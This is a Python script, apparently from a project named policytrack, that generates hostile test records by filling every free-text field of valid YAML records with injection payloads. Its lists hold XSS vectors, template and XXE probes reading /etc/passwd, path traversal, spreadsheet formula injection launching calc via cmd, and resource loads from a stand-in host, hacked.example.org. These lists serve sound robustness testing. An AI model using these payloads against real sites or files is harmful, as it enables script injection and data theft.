"""Write the hostile records of the tests: the valid ones, with an attack wherever a record may hold free text.

Give `--check` to see that they are what this script writes.
"""

from __future__ import annotations

import json
import sys
from collections import defaultdict
from collections.abc import Iterator, Mapping
from itertools import count
from pathlib import Path
from typing import Any, NamedTuple, cast, get_args, get_type_hints

from policytrack.fields import PASSAGE_PATTERN
from policytrack.formatting import canonical, composed
from policytrack.models import Agreement
from policytrack.models.strict import Entity
from policytrack.models.tombstones import Tombstones
from policytrack.reading import read

RECORDS = Path(__file__).parents[1] / "tests" / "records"
HOSTILE = RECORDS / "hostile"

LINES = (
    "<script>hacked()</script>",
    "</script><script>hacked()</script>",
    "<img src=https://hacked.example.org/x onerror=hacked()>",
    '"><svg onload=hacked()>',
    "' onmouseover='hacked()' x='",
    '" autofocus onfocus="hacked()" x="',
    "javascript:hacked()",
    "[words](javascript:hacked())",
    "![picture](https://hacked.example.org/picture.png)",
    "<hacked-element>shown</hacked-element>",
    "</title></style></textarea></noscript></main><hacked-element>",
    "<!-- <hacked-element> --!> --> <hacked-element>",
    "]]><hacked-element/>",
    "&#x3c;hacked-element&#x3e; &lt;script&gt;hacked()&lt;/script&gt; &amp;amp;",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> #{7*7}",
    "words {: onclick=hacked() .hacked #content }",
    '--8<-- "pyproject.toml"',
    '=HYPERLINK("https://hacked.example.org/","words")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "שלום עולם مرحبا 123 abc (שלום)",
    '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
    "<base href=https://hacked.example.org/><meta http-equiv=refresh content=0;url=https://hacked.example.org/>",
    "<link rel=stylesheet href=https://hacked.example.org/x.css><style>@import 'https://hacked.example.org/y.css'</style>",
    "<form action=https://hacked.example.org/><input name=hacked><button autofocus>",
    "\\u003cscript>hacked()\\u003c/script>\\",
    '"};hacked();//',
    "';hacked();/*",
    "` + hacked() + `${hacked()}",
    "*bold* _slanted_ <b class=hacked>thick</b> `code`",
    "| a | b | <details open ontoggle=hacked()>",
    "__proto__",
    "constructor",
    "toString",
    "END:VEVENT, a; b \\n END:VCALENDAR",
    "data:text/html,<script>hacked()</script>",
    "..",
    "a/../../b?c#d%0Ahacked%2F",
    "Z͑ͫ̓a̧͎l͚g̶o 👩🇨🇦 ﷽",
    "<a href=javascript:hacked() class=hacked>",
    "<math><mtext><style><img src onerror=hacked()></style></mtext></math>",
    '<object data="javascript:hacked()"></object><embed src="javascript:hacked()">',
    "<video><source onerror=hacked()></video><audio src onerror=hacked()>",
    "<template><hacked-element></template><plaintext>",
    "<table><tr><td><hacked-element></table><select><hacked-element></select>",
    "<img name=hacked id=content><form id=site-search name=hacked>",
    "<?xml-stylesheet href='https://hacked.example.org/x.xsl'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "<![CDATA[<hacked-element/>]]>",
    "<svg><use href='data:image/svg+xml,<svg onload=hacked()>'/><a href='javascript:hacked()'/></svg>",
    "<javascript:hacked()> <https://hacked.example.org/auto> https://hacked.example.org/bare",
    "[words][hacked] [^hacked] ![](x 'a' onerror=hacked())",
    "==marked== ++key++ ~~gone~~ ^^up^^ :hacked: $x^2$ \\(x\\) &copy &lt",
    "[words](https://hacked.example.org/){: onclick=hacked() class=hacked }",
    "::: policytrack.load",
    "{{ config.site_url }}{% raw %}{{ url_for('hacked') }}",
    "${{ github.event.issue.title }} $(hacked) `hacked` %n %s %(hacked)s {0.__class__}",
    "&lt;hacked-element&gt; &#60;hacked-element&#62; &amp;lt;hacked-element&amp;gt; &nbsp;",
    "+ADw-script+AD4-hacked()+ADw-/script+AD4-",
    "%3Cscript%3Ehacked()%3C/script%3E",
    "＜script＞hacked()＜/script＞ ‹script› 〈script〉",
    "＝1+1;＠SUM(1)",
    "'=1+1",
    "=cmd|' /C calc'!A0,\"=1+1\";=2+2",
    "BEGIN:VALARM ACTION:AUDIO ATTACH:https://hacked.example.org/ END:VALARM",
    "क्‍ष می‌خواهم पिन‍ोड",
    '{"@id":"javascript:hacked()","@context":"https://hacked.example.org/"}',
    "../../../etc/passwd",
    "<a id=__proto__><a id=constructor name=prototype>",
    "\\\"><hacked-element>\\'",
    "<style>*{background:url(https://hacked.example.org/)}</style>",
    "<script src=https://hacked.example.org/x.js></script><script type=module>hacked()</script>",
)
"""Attacks on one line; whatever runs, calls `hacked`; whatever becomes an element, can be known by its name."""

BLOCKS = (
    "words\n\n<script>hacked()</script>\n\n<div class=hacked markdown=1>\n\n**words**\n\n</div>",
    "---\ntitle: hacked\ntemplate: hacked.html\n---\n\n# hacked {: #content .hacked onclick=hacked() }",
    '!!! danger "hacked"\n    <hacked-element>\n\n??? note\n    words',
    '--8<-- "pyproject.toml"\n\n--8<--\npyproject.toml\n--8<--',
    "```html\n<hacked-element>\n```\n\n~~~ { .hacked #content onclick=hacked() }\nwords\n~~~",
    "[hacked]: javascript:hacked()\n[^hacked]: words\n*[words]: hacked\n\n[hacked] words[^hacked]",
    "| a | b |\n| - | - |\n| <img src=x onerror=hacked()> | ![](https://hacked.example.org/x) |",
    "::: policytrack.load\n    options:\n      heading_level: 1\n\n[TOC]",
    "{% set a = 1 %}\n{{ a }}\n{% include 'hacked.html' %}",
    "END:VEVENT\nEND:VCALENDAR\nBEGIN:VCALENDAR\nATTACH:https://hacked.example.org/",
    "words\n=1+1\n+1+1\n-1+1\n@SUM(1)",
    "</script>\n<!--\n<script>\nhacked()\n</script>\n-->",
    "- words\n\n        <hacked-element>\n\n1. words\n\n> words\n\n<details open ontoggle=hacked()>",
)
"""Attacks on several lines: on what reads Markdown, on files of lines."""

ADDRESSES = (
    'https://hacked.example.org/"><script>hacked()</script>',
    "https://hacked.example.org/'onmouseover='hacked()",
    "https://hacked.example.org/?a=1&b=<hacked-element>&amp;c",
    "https://hacked.example.org/#:~:text=hacked,-words",
    "https://hacked.example.org/](javascript:hacked())",
    "http://hacked.example.org/%3Cscript%3E/../\\x",
    "https://hacked.example.org:8080/{{7*7}}",
    "https://hacked.example.org℀/=1+1,;",
)
"""Addresses that would end their attribute, run, or be no addresses to whoever takes them apart."""

PASSAGES = (
    "<script>hacked()</script> … </p><hacked-element>",
    '"><img/src=x/onerror=hacked()> … words"',
    "50% of #words, &amp; more … a-b,c-d",
    "]]> … --> javascript:hacked()",
    "=1+1 {{7*7}} … [words](javascript:hacked())",
    "{:onclick=hacked()} … ${7*7} `hacked`",
)
"""Attacks in words."""

SEVERAL = frozenset({"aliases", "beneficiaries", "participants"})
"""Lists of lines that name nothing else in the record."""

EVERY = 5
"""Of so many texts one is as long as the format allows, and one word; of the rest, another is of several lines."""


class Kind(NamedTuple):
    """What a text may be."""

    name: str
    """Line, prose, address or passage."""
    longest: int
    """How many characters the format allows."""


class Attacker:
    """Puts one attack after the other into the places for text of records."""

    def __init__(self) -> None:
        self._numbers = count(1)
        self._turns: dict[str, Iterator[int]] = defaultdict(count)
        self._names: dict[str, str] = {}

    def attacked(self, model: type[Entity], given: Mapping[str, Any]) -> dict[str, Any]:
        """Return a record, or a part of one, with an attack as every text that it may hold."""
        if model is Agreement:
            self._names.clear()
        return dict(self._keys(model, given))

    def _keys(self, model: type[Entity], given: Mapping[str, Any]) -> Iterator[tuple[str, Any]]:
        hints = get_type_hints(model, include_extras=True)
        for name, field in model.model_fields.items():
            key = field.alias or name
            kind, is_list = _kind(hints[name])
            if isinstance(kind, type):
                if key in given:
                    held = given[key]
                    yield key, [self.attacked(kind, part) for part in held] if is_list else self.attacked(kind, held)
            elif key == "bodies":  # they name what stands elsewhere in the record
                if self._names:
                    yield key, [*self._names.values()]
            elif kind and (not is_list or key in SEVERAL):
                attack = [self._attack(kind), self._attack(kind)] if is_list else self._attack(kind)
                if model.__name__ == "Body" and key == "name":
                    self._names[given[key]] = str(attack)
                yield key, attack
            elif key in given:
                yield key, given[key]

    def _attack(self, kind: Kind) -> str:
        number = next(self._numbers)
        if number % EVERY == 0:
            return longest(kind, number)
        if kind.name == "prose" and number % EVERY == 1:
            return BLOCKS[next(self._turns["block"]) % len(BLOCKS)]
        attacks = {"address": ADDRESSES, "passage": PASSAGES}.get(kind.name, LINES)
        attack = attacks[next(self._turns[kind.name]) % len(attacks)]
        return f"{attack}{number}" if kind.name == "address" else attack


def longest(kind: Kind, number: int) -> str:
    """Return one word of as many characters as the format allows for such a text."""
    letter = "WVMQ"[number // EVERY % 4]
    begun = f"https://hacked.example.org/{number}/" if kind.name == "address" else ""
    return f"{begun}{letter * (kind.longest - len(begun))}"


def _kind(hint: Any) -> tuple[Kind | type[Entity] | None, bool]:
    """Return what a field holds (a model, or the kind of a text; None for anything else) and whether in a list."""
    is_list = False
    marks: list[Any] = []
    while get_args(hint):
        first, *others = get_args(hint)
        is_list = is_list or getattr(hint, "__origin__", None) is tuple
        marks += others
        hint = first
    if isinstance(hint, type) and issubclass(hint, Entity):
        return hint, is_list
    mark = next((mark for mark in marks if hasattr(mark, "longest")), None)
    name = _called(mark.pattern) if mark else ""
    return (Kind(name, mark.longest) if mark and name else None), is_list


def _called(pattern: str) -> str:
    """Return what the texts of a pattern are called; empty for those that no attack fits into."""
    if pattern == PASSAGE_PATTERN:
        return "passage"
    if pattern.startswith("^https?"):
        return "address"
    if pattern.startswith("^[^ \\n]"):
        return "line" if pattern.endswith("([^\\n]*[^ \\n])?$") else "prose"
    return ""


def records() -> Iterator[tuple[Path, bytes]]:
    """Yield each hostile record and its place, and the file of records that went."""
    attacker = Attacker()
    for path in sorted((RECORDS / "valid").glob("*.yaml")):
        given = read(path.read_bytes()).data
        if not isinstance(given, Mapping):
            sys.exit(f"{path} is no record")
        attacked = attacker.attacked(Agreement, cast("Mapping[str, Any]", given))
        yield HOSTILE / "agreements" / path.name, composed(Agreement.model_validate(attacked))
    gone = [{"id": f"can-ind-{year}-gone", "removed": "2026-11-22"} for year in range(2000, 2005)]
    stones = attacker.attacked(Tombstones, {"format": 1, "tombstones": gone})
    Tombstones.model_validate(stones)
    yield HOSTILE / "tombstones.yaml", canonical(json.dumps(stones).encode(), model=Tombstones)


def main(arguments: list[str]) -> int:
    """Write the records, or say which are not as they would be written."""
    others = [(path, data) for path, data in records() if not path.is_file() or path.read_bytes() != data]
    for path, data in others:
        print(path)
        if "--check" not in arguments:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
    return bool(others) if "--check" in arguments else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
